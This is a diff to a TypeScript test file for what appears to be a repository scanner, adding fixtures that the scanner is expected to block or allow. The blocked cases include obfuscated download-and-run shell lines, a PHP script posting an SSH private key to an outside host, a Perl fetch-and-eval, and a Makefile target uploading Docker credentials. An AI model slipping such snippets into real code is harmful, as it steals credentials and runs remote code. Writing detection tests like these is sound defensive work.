@@ -77,6 +77,10 @@ const POSITIVES: [string, Record<string, string | Uint8Array>, string, Decision]
   ["printf of rot13 text through tr into bash", { "scripts/a.sh": "printf '%s' 'jtrg -dB- uggc://198.51.100.4/n | onfu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash\n" }, "SR-DLEXEC-001", "blocked"],
   ["hex through xxd -r -p into sh", { "scripts/a.sh": "echo 77676574202d714f2d20687474703a2f2f3139382e35312e3130302e342f61207c2062617368 | xxd -r -p | sh\n" }, "SR-DLEXEC-001", "blocked"],
   ["wget into tee, the saved file run with bash later", { "scripts/a.sh": "out=$HOME/.cache/.u\nwget -qO- https://198.51.100.8/u.sh | tee \"$out\" > /dev/null\necho done\nbash \"$out\"\n" }, "SR-DLEXEC-008", "blocked"],
+  // languages without a bundled grammar (light analysis)
+  ["PHP reads an SSH key and posts it with curl_exec", { "scripts/a.php": "<?php\n$k = file_get_contents(getenv('HOME') . '/.ssh/id_ed25519');\n$c = curl_init('https://keys-backup.example/in');\ncurl_setopt($c, CURLOPT_POSTFIELDS, $k);\ncurl_exec($c);\n" }, "SR-EXFIL-009", "blocked"],
+  ["Perl evaluates a fetched script without parentheses", { "scripts/a.pl": "use LWP::Simple;\nmy $code = LWP::Simple::get('http://198.51.100.5/p.pl');\neval $code;\n" }, "SR-DLEXEC-008", "blocked"],
+  ["a GNUmakefile target posts ~/.docker/config.json", { "GNUmakefile": "CFG = $(HOME)/.docker/config.json\nwarm:\n\tcurl -s -F f=@$(CFG) https://layer-cache.example/warm\n" }, "SR-EXFIL-009", "blocked"],
   // remote code run in the process
   ["a reply's text handed to exec with a namespace", { "scripts/a.py": 'import requests\nr = requests.get("https://plug.example/p.py", timeout=5)\nns = {}\nexec(r.text, ns)\n' }, "SR-DLEXEC-008", "blocked"],
   ["a fetched body run with vm.runInNewContext", { "scripts/a.js": 'const vm = require("vm");\n(async () => {\n  const body = await (await fetch("https://cfg.example/rules.js")).text();\n  vm.runInNewContext(body, { console });\n})();\n' }, "SR-DLEXEC-008", "blocked"],
@@ -132,6 +136,8 @@ const NEGATIVES: [string, Record<string, string>, string[], boolean?][] = [
   ["one entry of a .env file used to authenticate a call", { "scripts/t.py": 'import requests\nenv = {}\nwith open(".env") as fh:\n    for line in fh:\n        k, _, v = line.strip().partition("=")\n        env[k] = v\nrequests.post("https://api.deepl.example/v2/translate", headers={"Authorization": env["DEEPL_KEY"]}, data={"text": "hi"})\n' }, ["SR-EXFIL-009"], true],
   ["a CLI token sent to its vendor with a built path, other hosts without it", { "scripts/s.py": 'import subprocess, requests\nt = subprocess.run(["gh", "auth", "token"], capture_output=True, text=True).stdout.strip()\nfor path in ["/user", "/user/repos"]:\n    requests.get(f"https://api.github.com{path}", headers={"Authorization": f"token {t}"})\nrequests.get("https://pypi.org/pypi/requests/json")\n' }, ["SR-EXFIL-009"]],
   ["JSON fetched and parsed, a local pickle loaded", { "scripts/m.py": 'import json, pickle, requests\ndata = requests.get("https://api.example.org/v1/labels").json()\nwith open("model.pkl", "rb") as fh:\n    model = pickle.load(fh)\nprint(model.predict(data))\n' }, ["SR-DLEXEC-008"]],
+  ["Go reads AWS credentials and calls AWS", { "tools/sts/main.go": 'package main\nimport ("net/http"; "os"; "path/filepath")\nfunc main() {\n  home, _ := os.UserHomeDir()\n  b, _ := os.ReadFile(filepath.Join(home, ".aws", "credentials"))\n  _ = b\n  http.Get("https://sts.amazonaws.com/?Action=GetCallerIdentity")\n}\n' }, ["SR-EXFIL-009"], true],
+  ["a Makefile that downloads a file without running it", { "Makefile": "data:\n\tcurl -fsSL https://data.example.org/set.csv -o set.csv\n" }, ["SR-DLEXEC-008"]],
   ["folding harmless strings", { "scripts/fmt.py": 'name = "re" + "port"\nprint("".join(reversed(name)), bytes.fromhex("6869").decode())\n' }, []],
 ];
 
